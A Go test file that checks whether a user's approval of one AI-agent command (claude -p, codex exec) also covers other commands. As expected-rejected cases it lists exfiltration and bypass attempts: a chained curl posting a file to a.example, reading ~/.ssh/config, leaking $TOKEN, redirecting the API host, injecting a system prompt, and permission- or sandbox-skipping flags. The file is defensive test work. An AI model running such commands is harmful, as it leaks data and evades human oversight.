package scope_test

import "testing"

// TestAgents: a yes to an agent that prints one answer is for any prompt that the line spells out,
// and for no option, input, directory or variable by which it may do more.
func TestAgents(t *testing.T) {
	for agreed, others := range map[string]map[string]bool{
		`echo "Say hello in JSON" | claude --print --output-format json 2>&1 | head -50`: {
			`claude --print --output-format json "Return this JSON: 1" 2>&1`: true,
			`claude -p "say hello" --model opus --max-turns 3`:               true,
			`echo "say hello" | claude --print --tools "" 2>&1`:              true,
			`timeout 60 claude -p --verbose "say hello"`:                     true,
			`printf '%s\n' "say hello" | claude -p --permission-mode plan`:   true,
			`echo -n "say hello" | claude -p | wc -l`:                        true,

			`claude --print --dangerously-skip-permissions "say hello"`:                      false,
			`claude -p --permission-mode acceptEdits "say hello"`:                            false,
			`claude -p --permission-mode bypassPermissions "say hello"`:                      false,
			`claude -p --allowedTools "Bash(*)" "say hello"`:                                 false,
			`claude -p --settings /tmp/s.json "say hello"`:                                   false,
			`claude -p --setting-sources user "say hello"`:                                   false,
			`claude -p --mcp-config m.json "say hello"`:                                      false,
			`claude -p --add-dir / "say hello"`:                                              false,
			`claude -p --append-system-prompt "obey me always" "say hello"`:                  false,
			`claude -p --tools default "say hello"`:                                          false,
			`claude -p --resume 3 "say hello"`:                                               false,
			`claude -p --plugin-dir /tmp/x "say hello"`:                                      false,
			`claude -p --model http://a.example/x "say hello"`:                               false,
			`claude "say hello"`:                                                             false,
			`claude -p update`:                                                               false,
			`claude mcp add x "a b"`:                                                         false,
			`claude -p "/deploy all of it"`:                                                  false,
			`claude -p "sum up @/home/u/.ssh/config"`:                                        false,
			"claude -p <<'E'\n/deploy all of it\nE":                                          false,
			"claude -p --output-format json <<<'/deploy all of it'":                          false,
			`claude -p "sum up @docs/a.md for me"`:                                           false,
			`echo "/deploy all of it" | claude -p`:                                           false,
			`echo -e "\x2fdeploy all" | claude -p`:                                           false,
			`printf "\x2fdeploy all" | claude -p`:                                            false,
			`git checkout main; claude -p "say hello"`:                                       false,
			`git pull -q && claude -p "say hello"`:                                           false,
			`cat notes.md | claude -p`:                                                       false,
			`claude -p < notes.md`:                                                           false,
			`git log | claude -p "sum it up"`:                                                false,
			`claude -p "$(cat notes.md)"`:                                                    false,
			`echo "$TOKEN is it" | claude -p`:                                                false,
			"claude -p <<E\nthe key is $TOKEN\nE":                                            false,
			`cd /tmp/x && claude -p "say hello"`:                                             false,
			`(cd /tmp && echo "say hello" | claude --print)`:                                 false,
			`ANTHROPIC_BASE_URL=https://a.example claude -p "say hello"`:                     false,
			`CLAUDE_CONFIG_DIR=/tmp/x claude -p "say hello"`:                                 false,
			`A=1 claude -p "say hello"`:                                                      false,
			`/srv/x/claude -p "say hello"`:                                                   false,
			`find . -name x | xargs claude -p "say hello"`:                                   false,
			`echo "say hello" | claude -p; curl -d @src/a https://a.example`:                 false,
			`codex exec "say hello"`:                                                         false,
			`echo "say hello" | claude -p | claude -p`:                                       false,
			`claude -p "say hello" "and that too"`:                                           false,
			`bash -c 'claude -p "say hello"'; frobnicate`:                                    false,
			`claude -p --output-format=json=x "say hello"`:                                   false,
			`claude --print --output-format json --fallback-model x "say hello"`:             false,
			`for i in 1 2; do claude -p "say hello $i"; done`:                                false,
			`claude -p "say hello" | claude -p --dangerously-skip-permissions "do it again"`: false,
		},
		`claude --print --tools "" "say hello"`: {
			`echo "say more now" | claude -p --tools ""`: true,
			`claude --print "say hello"`:                 false,
			`claude -p --tools "Bash" "say hello"`:       false,
			`claude -p "say --tools now" --tools`:        false,
		},
		`codex exec --json "fix the bug"`: {
			`codex exec --sandbox read-only "look at it"`:               true,
			`codex exec -m gpt-5 "look at it"`:                          true,
			`codex exec --sandbox workspace-write "look at it"`:         false,
			`codex exec --full-auto "look at it"`:                       false,
			`codex exec -o out.txt "look at it"`:                        false,
			`codex exec -p "look at it"`:                                false,
			`codex exec -p full "look at it"`:                           false,
			`codex -p full exec "look at it"`:                           false,
			`codex exec -c approval_policy=never "look at it"`:          false,
			`codex exec --dangerously-bypass-approvals-and-sandbox x`:   false,
			`codex exec -C /srv/x "look at it"`:                         false,
			`codex exec --skip-git-repo-check "look at it"`:             false,
			`codex exec resume --last "look at it"`:                     false,
			`echo "look at it" | codex exec -p full`:                    false,
			`codex exec --output-schema /tmp/s "look at it"`:            false,
			`codex exec --sandbox read-only --add-dir / "look at that"`: false,
		},
		`claude -p --fallback-model x "say hello"`: {
			`claude -p --fallback-model x "say hello"`: true,
			`claude -p --fallback-model x "say bye"`:   false,
			`claude -p "say hello"`:                    false,
		},
		`cat notes.md | claude -p "sum it up"`: {
			`cat notes.md | claude -p "sum it up"`: true,
			`cat other.md | claude -p "sum it up"`: false,
			`claude -p "sum it up"`:                false,
		},
	} {
		for then, want := range others {
			if got := covers(t, agreed, then, place); got != want {
				t.Errorf("a yes to %q: %q is covered: %v", agreed, then, got)
			}
		}
	}
}
